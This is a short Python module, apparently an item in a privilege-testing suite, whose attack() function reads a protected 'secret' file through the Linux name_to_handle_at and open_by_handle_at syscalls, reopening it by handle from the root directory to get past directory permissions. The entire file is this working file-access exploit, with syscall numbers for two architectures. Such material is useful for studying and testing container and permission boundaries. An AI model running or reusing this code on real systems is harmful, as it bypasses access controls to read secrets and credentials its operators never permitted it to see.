"""Opens a file by its handle, past every directory and its rights."""

import ctypes
import os
import struct

ROOT = True


def attack(A):
    names = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
    to_handle, by_handle = (ctypes.c_long(n) for n in names)
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount = ctypes.c_int()
    here, path, none = ctypes.c_long(-100), TARGET["secret"].encode(), ctypes.c_long(0)
    if libc.syscall(to_handle, here, path, handle, ctypes.byref(mount), none):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    root = os.open("/", os.O_RDONLY)
    descriptor = libc.syscall(by_handle, ctypes.c_long(root), handle, none)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.read(descriptor, 100).decode()
